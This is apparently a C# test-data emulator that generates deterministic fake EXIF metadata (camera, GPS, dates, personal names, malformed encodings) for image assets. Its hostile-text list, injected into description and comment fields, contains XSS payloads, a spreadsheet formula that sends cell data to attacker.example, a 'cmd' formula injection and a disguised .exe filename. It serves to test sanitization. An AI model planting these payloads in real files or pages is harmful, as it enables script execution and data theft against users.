using System.Globalization;
using System.Text.Json.Nodes;

namespace ImageKit.Metadata.Emulator;

/// <summary>The EXIF of one asset: built on demand from a few numbers, always the same.</summary>
internal sealed record ExifBlock(Camera Camera, ulong Seed, AssetTraits Traits, int Width, int Height, int Orientation, ExifOddity Oddity)
{
    private static readonly string[] People = ["Anna de Vries", "Jonas Lindqvist", "Aiko Tanaka", "Maria Rossi", "Tom O'Neill"];

    private static readonly (double Latitude, double Longitude)[] Places =
    [
        (52.3702, 4.8952), (59.3293, 18.0686), (35.6762, 139.6503), (-33.8688, 151.2093), (-22.9068, -43.1729), (40.7128, -74.0060), (64.1466, -21.9426),
    ];

    private static readonly string[] BadDates =
    [
        "", "    :  :     :  :  ", "0000:00:00 00:00:00", "2023:13:45 29:61:99", "2023-05-01T10:00:00Z", "yesterday",
    ];

    private static readonly string[] HostileTexts =
    [
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"open\")",
        "photo\u202Egpj.exe",
        "red \u001b[31mtext\u0007 and a NUL\u0000 inside",
        "line one\r\nline two\ttab",
        "\"><img src=x onerror=alert(1)>",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "]]> --> ' \" & \u2028 \ud83d\udcf7",
    ];

    public JsonObject Build()
    {
        SeededRandom random = new(Seed);
        string taken = new DateTime(2021, 1, 1, 7, 0, 0, DateTimeKind.Unspecified)
            .AddMinutes(random.Next(0, 3 * 365 * 24 * 60)).AddSeconds(random.Next(0, 59))
            .ToString("yyyy:MM:dd HH:mm:ss", CultureInfo.InvariantCulture);
        if (Traits.HasFlag(AssetTraits.MalformedDate))
        {
            taken = random.Pick(BadDates);
        }

        JsonObject image = Image(taken);
        JsonObject gps = Gps(random);
        JsonObject exif = Exposure(random, taken);
        JsonObject thumbnail = Thumbnail(random);
        JsonObject block = new()
        {
            ["image"] = image,
            ["thumbnail"] = thumbnail,
            ["exif"] = exif,
            ["gps"] = gps,
            ["interoperability"] = Camera.IsPhone ? [] : new JsonObject { ["InteropIndex"] = "R98", ["InteropVersion"] = "0100" },
            ["makernote"] = MakerNote(random),
        };
        AddPersonalData(random, image, exif);
        AddHostileText(random, image, exif);
        AddOddity(block, image, exif, gps);
        return block;
    }

    private JsonObject Image(string taken) => new()
    {
        ["Make"] = Camera.Make,
        ["Model"] = Camera.Model,
        [nameof(Orientation)] = Orientation,
        ["XResolution"] = Camera.IsPhone ? 72 : 300,
        ["YResolution"] = Camera.IsPhone ? 72 : 300,
        ["ResolutionUnit"] = 2,
        ["Software"] = Camera.Software,
        ["ModifyDate"] = taken,
        ["YCbCrPositioning"] = Camera.IsPhone ? 1 : 2,
        ["ExifOffset"] = 214,
    };

    private JsonObject Thumbnail(SeededRandom random)
    {
        JsonObject thumbnail = new()
        {
            ["Compression"] = 6,
            ["XResolution"] = 72,
            ["YResolution"] = 72,
            ["ResolutionUnit"] = 2,
            ["ThumbnailOffset"] = random.Next(800, 2000),
            ["ThumbnailLength"] = random.Next(4000, 14000),
        };
        if (Camera.Make == "SONY")
        {
            thumbnail["Make"] = Camera.Make;
            thumbnail["Model"] = Camera.Model;
            thumbnail[nameof(Orientation)] = Orientation;
        }

        return thumbnail;
    }

    private JsonObject Exposure(SeededRandom random, string taken)
    {
        double speed = random.Next(2, 11);
        double aperture = random.Pick([1.5, 1.8, 2.8, 4, 5.6, 7.1, 8, 11]);
        double focal = Camera.IsPhone ? 5.7 : random.Pick([23, 24, 35, 50.5, 70, 105]);
        return new JsonObject
        {
            ["ExposureTime"] = Math.Pow(2, -speed),
            ["FNumber"] = aperture,
            ["ExposureProgram"] = 2,
            ["ISO"] = random.Pick([50, 100, 200, 400, 800, 1600, 6400]),
            ["ExifVersion"] = "0232",
            ["DateTimeOriginal"] = taken,
            ["CreateDate"] = taken,
            ["ComponentsConfiguration"] = "\u0001\u0002\u0003\u0000",
            ["ShutterSpeedValue"] = speed,
            ["ApertureValue"] = 2 * Math.Log2(aperture),
            ["BrightnessValue"] = random.NextDouble(-1, 11),
            ["ExposureCompensation"] = random.Pick([-1, -1.0 / 3, 0, 0, 0, 2.0 / 3]),
            ["MeteringMode"] = 5,
            ["Flash"] = random.Pick([0, 0, 0, 9, 16, 24]),
            ["FocalLength"] = focal,
            ["SubSecTimeOriginal"] = random.Next(0, 99).ToString("00", CultureInfo.InvariantCulture),
            ["FlashpixVersion"] = "0100",
            ["ColorSpace"] = Camera.IsPhone ? 65535 : 1,
            ["ExifImageWidth"] = Width,
            ["ExifImageHeight"] = Height,
            ["SensingMethod"] = 2,
            ["CustomRendered"] = 0,
            ["ExposureMode"] = 0,
            ["WhiteBalance"] = 0,
            ["FocalLengthIn35mmFormat"] = (int)(focal * (Camera.IsPhone ? 4.6 : 1)),
            ["SceneCaptureType"] = 0,
            ["LensModel"] = Camera.Lens,
        };
    }

    private JsonObject Gps(SeededRandom random)
    {
        if (Traits.HasFlag(AssetTraits.GpsVersionOnly))
        {
            return new JsonObject { ["GPSVersionID"] = new JsonArray(2, 3, 0, 0) };
        }

        if (!Traits.HasFlag(AssetTraits.HasLocation))
        {
            return [];
        }

        (double latitude, double longitude) = random.Pick(Places);
        latitude += random.NextDouble(-0.05, 0.05);
        longitude += random.NextDouble(-0.05, 0.05);
        return new JsonObject
        {
            ["GPSVersionID"] = new JsonArray(2, 3, 0, 0),
            ["GPSLatitudeRef"] = latitude < 0 ? "S" : "N",
            ["GPSLatitude"] = DegreesMinutesSeconds(latitude),
            ["GPSLongitudeRef"] = longitude < 0 ? "W" : "E",
            ["GPSLongitude"] = DegreesMinutesSeconds(longitude),
            ["GPSAltitudeRef"] = random.Chance(0.2) ? 1 : 0,
            ["GPSAltitude"] = Math.Round(random.NextDouble(0, 300), 2),
            ["GPSTimeStamp"] = new JsonArray(random.Next(0, 23), random.Next(0, 59), random.Next(0, 59)),
            ["GPSImgDirectionRef"] = "T",
            ["GPSImgDirection"] = random.NextDouble(0, 360),
            ["GPSDateStamp"] = "2023:05:01",
        };
    }

    private static JsonArray DegreesMinutesSeconds(double value)
    {
        double magnitude = Math.Abs(value);
        double minutes = magnitude % 1 * 60;
        return [Math.Floor(magnitude), Math.Floor(minutes), Math.Round(minutes % 1 * 60, 2)];
    }

    private JsonObject MakerNote(SeededRandom random) => Camera.Make switch
    {
        "FUJIFILM" => new JsonObject
        {
            ["Version"] = "0130",
            ["Quality"] = "FINE   ",
            ["Sharpness"] = 3,
            ["WhiteBalance"] = 0,
            ["Saturation"] = 0,
            ["WhiteBalanceFineTune"] = new JsonArray(0, 0),
            ["FilmMode"] = random.Pick([0, 512, 1280]),
            ["DynamicRange"] = 1,
        },
        "Apple" or "Google" => [],
        _ => new JsonObject
        {
            ["error"] = "Unable to extract Makernote information as it is in an unsupported or unrecognized format.",
        },
    };

    private void AddPersonalData(SeededRandom random, JsonObject image, JsonObject exif)
    {
        if (!Traits.HasFlag(AssetTraits.PersonalData))
        {
            return;
        }

        string person = random.Pick(People);
        int what = random.Next(0, 3);
        if (what is 0 or 3)
        {
            image["Artist"] = person;
            image["Copyright"] = $"(c) {person}";
        }

        if (what is 1 or 3)
        {
            exif["CameraOwnerName"] = person;
        }

        if (what is 2 or 3)
        {
            exif["BodySerialNumber"] = random.Next(10_000_000, 99_999_999).ToString(CultureInfo.InvariantCulture);
        }
    }

    private void AddHostileText(SeededRandom random, JsonObject image, JsonObject exif)
    {
        if (Traits.HasFlag(AssetTraits.HostileText))
        {
            image["ImageDescription"] = HostileTexts[(int)(Seed % (ulong)HostileTexts.Length)];
            exif["UserComment"] = random.Pick(HostileTexts);
            image["Software"] = random.Pick(HostileTexts);
        }
    }

    private void AddOddity(JsonObject block, JsonObject image, JsonObject exif, JsonObject gps)
    {
        switch (Oddity)
        {
            case ExifOddity.Nulls:
                exif["ExposureTime"] = null;
                exif["BrightnessValue"] = null;
                exif["LensInfo"] = new JsonArray(24, 70, null, null);
                if (gps.ContainsKey("GPSTimeStamp"))
                {
                    gps["GPSTimeStamp"] = new JsonArray(null, 0, 0);
                }

                break;
            case ExifOddity.Buffers:
                exif["ExifVersion"] = Buffer(48, 50, 51, 50);
                exif["FlashpixVersion"] = Buffer(48, 49, 48, 48);
                exif["MakerNote"] = Buffer([.. Enumerable.Range(0, 200).Select(i => i % 256)]);
                exif["UserComment"] = Buffer(65, 83, 67, 73, 73, 0, 0, 0, 104, 105);
                break;
            case ExifOddity.EmptyArrays:
                block["interoperability"] = new JsonArray();
                block["makernote"] = new JsonArray();
                block["thumbnail"] = new JsonArray();
                exif["SubjectArea"] = new JsonArray();
                break;
            case ExifOddity.Padding:
                image["ImageDescription"] = new string(' ', 31);
                image["Make"] = Camera.Make + "\0\0";
                image["Model"] = Camera.Model + "   \0";
                break;
            case ExifOddity.Several:
                exif["ISO"] = new JsonArray(400, 400);
                exif["SubjectArea"] = new JsonArray(1631, 1223, 881, 881);
                image["BitsPerSample"] = new JsonArray(8, 8, 8);
                exif["MakerNote"] = "Nikon\0\u0002\u0010";
                break;
            case ExifOddity.Drift:
                image["XResolution"] = 299.999;
                exif["FocalLength"] = "35";
                exif["ISO"] = "400";
                exif["FNumber"] = 1e300;
                break;
            default:
                break;
        }
    }

    private static JsonObject Buffer(params int[] bytes) => new()
    {
        ["type"] = "Buffer",
        ["data"] = new JsonArray([.. bytes.Select(value => (JsonNode)value)]),
    };
}
